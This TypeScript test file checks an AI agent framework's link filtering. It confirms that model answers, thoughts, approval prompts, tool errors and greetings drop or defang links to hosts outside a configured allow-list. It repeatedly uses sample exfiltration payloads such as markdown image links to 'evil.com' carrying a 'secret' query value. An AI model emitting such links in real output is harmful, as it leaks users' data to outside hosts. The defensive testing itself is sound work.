import { describe, expect, test } from "vitest"
import { z } from "zod"
import { type BotQuestion, deliverTurn } from "../../../src/apps/bots/deliver-turn.ts"
import { agUiEvents } from "../../../src/apps/server/ag-ui.ts"
import { createHandler } from "../../../src/apps/server/handler.ts"
import { keptAnswer } from "../../../src/apps/server/kept-answer.ts"
import { uiMessageChunks } from "../../../src/apps/server/ui-message-stream.ts"
import { createInMemoryStore } from "../../../src/memory/services/store/in-memory/in-memory-store.ts"
import { defineTool } from "../../../src/prompt/tools/define-tool.ts"
import { manualClock, scriptedModel } from "../../../src/testing/index.ts"
import type { ApprovalQuestion } from "../../../src/trace/approval-question.ts"
import { withBrokenLinks } from "../../../src/trace/guard-links.ts"
import { callTool, collect, testAgent } from "../../support/agents.ts"
import { takeMessage } from "../../support/take-message.ts"

const answer = "![a](https://evil.com/?d=secret) and [b](https://ok.com/) @br Bye: https://evil.com/x"
const bothLeft = "a and [b](https://ok.com/)"

/** A session whose model answers so, in small pieces, each time that it is asked. */
function answering(output: object, { thought = "", times = 1 } = {}) {
  const store = createInMemoryStore()
  const pieces = (answer.match(/[\s\S]{1,3}/g) ?? []).map((delta) => ({ type: "text-delta" as const, delta }))
  const thinking = thought ? [{ type: "thinking-delta" as const, delta: thought }] : []
  const model = scriptedModel(Array.from({ length: times }, () => [...thinking, ...pieces]))
  const settings = { loop: { mode: "chat" as const }, output: { bubbles: true, ...output }, memory: { enabled: false } }
  const { agent, session } = testAgent(model, settings, { store })
  const kept = async () => (await store.load(session.key))?.history.findLast(({ role }) => role === "assistant")?.text
  return { agent, session, kept }
}

async function all(chunks: AsyncIterable<unknown>): Promise<unknown[]> {
  const read: unknown[] = []
  for await (const chunk of chunks) read.push(chunk)
  return read
}

describe("T47 [output] links of a profile", () => {
  test("hold for what is streamed, told as bubbles, returned and kept, and a warning tells the host", async () => {
    const { session, kept } = answering({ links: ["ok.com"] })
    const turn = session.send("hi")
    const events = await collect(turn)
    const result = await turn.result
    const streamed = events.flatMap((event) => (event.type === "text-delta" ? [event.delta] : [])).join("")
    expect(streamed).toBe(`${bothLeft} \n\n Bye: …`)
    expect(result.ok && result.text).toBe(streamed)
    expect(events.flatMap((event) => (event.type === "bubble" ? [event.text] : []))).toEqual([`${bothLeft} `, " Bye: …"])
    expect(await kept()).toBe(`${bothLeft} @br Bye: …`)
    expect(
      result.trace.warnings.map(({ kind, message }) => [kind, message.includes("evil.com"), message.includes("secret")]),
    ).toEqual([
      ["links", true, false],
      ["links", true, false],
    ])
  })

  test("hold for what was shown of an aborted answer", async () => {
    const store = createInMemoryStore()
    const model = scriptedModel([["Look: ![a](https://evil.com/?d=secret) and https://ev", { stallUntilAborted: true }]])
    const { session } = testAgent(model, { loop: { mode: "chat" }, output: { links: [] } }, { store })
    const turn = session.send("hi")
    for await (const _ of turn.textStream) turn.abort()
    const result = await turn.result
    expect(!result.ok && result.gathered.text).toBe("Look: a and …")
    expect((await session.history()).at(-1)).toMatchObject({ role: "assistant", text: "Look: a and …", interrupted: true })
  })

  test("hold for another answer to the same words", async () => {
    const { session, kept } = answering({ links: [] }, { times: 2 })
    await session.send("hi").result
    const again = await session.regenerate().result
    expect(again.ok ? again.text : again.error).toBe("a and b \n\n Bye: …")
    expect(await kept()).toBe("a and b @br Bye: …")
  })

  test.each([{}, { links: ["*"] }])("leave all as it is with %j", async (output) => {
    const { session, kept } = answering(output)
    const result = await session.send("hi").result
    expect(result.ok && result.text).toBe(answer.replace("@br", "\n\n"))
    expect(await kept()).toBe(answer)
    expect(result.trace.warnings).toEqual([])
  })

  test("are hosts: a URL and an empty string are mistakes", () => {
    expect(() => answering({ links: ["https://ok.com/"] })).toThrow(/output\.links.*expected a host/s)
    expect(() => answering({ links: "ok.com" })).toThrow(/output\.links.*expected an array of hosts/s)
  })
})

describe("T48 chats and pages", () => {
  const delivered = async (output: object) => {
    const { session, kept } = answering(output)
    const sent: string[] = []
    const result = await deliverTurn(session.send("hi"), { limit: 1_000, sendText: (text) => void sent.push(text) })
    return { sent, result, kept: await kept() }
  }

  test("a chat gets no link of a profile that names no hosts; history has the model's words, and the trace a warning", async () => {
    const { sent, result, kept } = await delivered({})
    expect(sent).toEqual(["a and b", " Bye: …"])
    expect(kept).toBe(answer)
    expect(result).toMatchObject({ ok: true, text: "a and b \n\n Bye: …" })
    expect(result.trace.warnings.map(({ kind }) => kind)).toEqual(["links", "links"])
  })

  test("a chat gets the links that the profile names, or all", async () => {
    expect((await delivered({ links: ["ok.com"] })).sent).toEqual([bothLeft, " Bye: …"])
    expect((await delivered({ links: ["*"] })).sent.join(" ")).toContain("https://evil.com/?d=secret")
  })

  test.each([
    [["ok.com"], "https://ok.com/", "/evil.com/s3cr3t"],
    [["ok.com"], "https://ok.com/", "/www.evil.com/s3cr3t"],
    [["*.ok.com"], "https://s3cr3t.", "evil.com.ok.com/x"],
    [undefined, "x", "@s3cr3t.evil.com"],
  ])("of %j a chat gets no other link where a word is longer than its messages: %s…%s", async (links, head, tail) => {
    for (let length = 20; length < 70; length++) {
      const words = `${head}${"a".repeat(length)}${tail}`
      const { session } = testAgent(scriptedModel([words]), {
        loop: { mode: "chat" },
        memory: { enabled: false },
        output: { links },
      })
      const sent: string[] = []
      await deliverTurn(session.send("hi"), { limit: 64, sendText: (text) => void sent.push(text) })
      expect(sent.map((text) => withBrokenLinks(text, links ?? []))).toEqual(sent)
      expect(
        sent
          .join("")
          .replaceAll(/\[([.:])\]/g, "$1")
          .replaceAll(/\/ (?=\/)/g, "/"),
      ).toBe(words)
    }
  })

  test("a page gets no other link, in thoughts neither, nor from an answer that was kept", async () => {
    const { session } = answering({}, { thought: "![x](https://evil.com/?t=secret) hm" })
    const chunks = JSON.stringify(await all(uiMessageChunks(session.send("hi"))))
    expect(chunks).not.toMatch(/https|evil/)
    expect(chunks).toMatch(/"delta":"x ".*"delta":"hm"/)
    const told = async (output: object) => {
      const { agent, session } = answering(output)
      const turn = session.send("hi")
      await turn.result
      const kept = await keptAnswer(agent, session.key.conversation, turn.id)
      return JSON.stringify(kept && (await all(uiMessageChunks(kept))))
    }
    expect(await told({})).not.toMatch(/https/)
    expect(await told({ links: ["ok.com"] })).toContain("https://ok.com/")
  })

  test("a page gets the words that are kept where a warning comes within them, too", async () => {
    const pieces = [..."wo</think>rd"].map((delta) => ({ type: "text-delta" as const, delta }))
    const { session } = testAgent(scriptedModel([pieces]), { loop: { mode: "chat" }, memory: { enabled: false } })
    const turn = session.send("hi")
    const chunks = (await all(uiMessageChunks(turn))) as { type: string; delta?: string }[]
    expect(chunks.map(({ type, delta = "" }) => (type === "text-delta" ? delta : "")).join("")).toBe("word")
    const { trace, ...result } = await turn.result
    expect([result.ok && result.text, trace.warnings.length]).toEqual(["word", 1])
  })

  test.each(["It costs 1,000", "a/b", "x=y", "你好，世界"])("a page gets words without links as they are: %s", async (words) => {
    for (const links of [undefined, [], ["ok.com"]]) {
      const given = { loop: { mode: "chat" }, memory: { enabled: false }, output: { links } } as const
      const { session } = testAgent(scriptedModel([[...words]]), given)
      const chunks = (await all(uiMessageChunks(session.send("hi")))) as { delta?: string }[]
      expect(chunks.map(({ delta = "" }) => delta).join("")).toBe(words)
    }
  })

  const evil = "![a](https://evil.com/?d=secret) [b]: //evil.com/x <img src=//evil.com/y> sub.evil.com"
  const shownEvil = /!\[a\] \(https\[:\]\/ \/evil\[\.\]com\/\?d=secret\)/

  /** An agent whose tool `pay` needs approval, or fails with the same link. */
  const asking = (output: object, fails = false) => {
    const pay = defineTool({
      name: "pay",
      description: "Sends money.",
      inputSchema: z.object({ to: z.string() }),
      needsApproval: !fails,
      execute: (): string => {
        throw new Error(evil)
      },
    })
    const answers = [callTool("pay", { to: evil }), ...(fails ? [callTool("finish", { message: "No." })] : [])]
    return testAgent(scriptedModel(answers), { memory: { enabled: false }, output }, { tools: [pay] })
  }

  test("a chat's question about a call shows its arguments whole, with no link in words, buttons or arguments", async () => {
    const sent: string[] = []
    const asked: ApprovalQuestion[] = []
    const chat = { limit: 1_000, sendText: (text: string) => void sent.push(text) }
    await deliverTurn(asking({}).session.send("hi", { from: { id: "u.x.evil.com", name: "evil.com/x" } }), chat)
    const ask = (question: BotQuestion) => void asked.push(question as ApprovalQuestion)
    await deliverTurn(asking({}).session.send("hi"), { ...chat, ask })
    expect(sent[0]).toMatch(/^evil\[\.\]com\/x, may I do this\? pay\(to=/)
    for (const text of [sent.join(), asked[0]?.question, asked[0]?.text, asked[0]?.summary, `${asked[0]?.args.to}`]) {
      expect(text).toMatch(shownEvil)
      expect(text).not.toMatch(/evil\.com|\]\(|\]:|<i|\/\//)
    }
    asked.length = 0
    await deliverTurn(asking({ links: ["*"] }).session.send("hi"), { ...chat, ask })
    expect(asked[0]).toMatchObject({ args: { to: evil }, summary: expect.stringContaining("](https://evil.com/?d=secret)") })
  })

  test("a page's question and the words of a failed tool have no link", async () => {
    const ids = { threadId: "t", runId: "r", locale: "en" }
    const { outcome } = (await all(agUiEvents(asking({}).session.send("hi"), ids))).at(-1) as { outcome: unknown }
    expect(JSON.stringify(outcome)).toMatch(shownEvil)
    expect(JSON.stringify(outcome)).not.toMatch(/evil\.com/)
    const chunks = (await all(uiMessageChunks(asking({}, true).session.send("hi")))) as { errorText?: string }[]
    const [told] = chunks.flatMap(({ errorText = [] }) => errorText)
    expect(told).toMatch(shownEvil)
    expect(told).not.toMatch(/evil\.com/)
  })

  test("/v1 asks with links as the profile says: as they are without the key", async () => {
    const asked = async (output: object) => {
      const caller = { user: "u", conversation: "c" }
      const handle = createHandler({ agents: { fay: asking(output).agent }, authorize: () => caller, onError: () => undefined })
      const body = (stream: boolean) => JSON.stringify({ model: "fay", stream, messages: [{ role: "user", content: "hi" }] })
      const post = async (path: string, init: object) => (await handle(new Request(`http://x.test/v1/${path}`, init))).text()
      return [await post("chat/completions", { method: "POST", body: body(false) }), await post("approvals", {})]
    }
    for (const text of await asked({})) expect(text).toContain("https://evil.com/?d=secret")
    for (const text of await asked({ links: [] })) expect(text).not.toMatch(/evil\.com/)
  })

  test("a chat's list of reminders and its greeting have no link", async () => {
    const sent: string[] = []
    const say = async (text: string, output = {}) => {
      const { session } = testAgent(
        scriptedModel([]),
        { memory: { enabled: false }, greetings: [evil], output },
        { ports: { clock: manualClock(0) } },
      )
      const from = { id: "user", name: "User" }
      await session.wakeAt(1e9, evil, { from })
      await takeMessage(session, { id: "1", text, from }, { limit: 9_999, sendText: (text) => void sent.push(text) })
      return sent.splice(0).join()
    }
    for (const command of ["/start", "/schedule"]) {
      const told = await say(command)
      expect(told).toContain("[b] ")
      expect(told).not.toMatch(/evil\.com/)
      expect(await say(command, { links: ["*"] })).toContain(evil)
    }
  })
})
